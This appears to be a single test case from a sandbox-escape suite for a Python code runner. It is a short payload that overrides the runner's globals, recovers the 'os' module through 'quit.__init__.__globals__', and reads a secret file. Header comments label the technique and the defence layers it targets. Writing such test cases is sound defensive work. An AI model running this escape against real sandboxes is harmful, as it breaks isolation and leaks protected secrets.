# class: wrapper breaking
# technique: the names of the runner made global and taken away
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
global _items, print, _query
host = _items[0]["json"]
del _items
print = lambda *a, **k: None
os = quit.__init__.__globals__["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
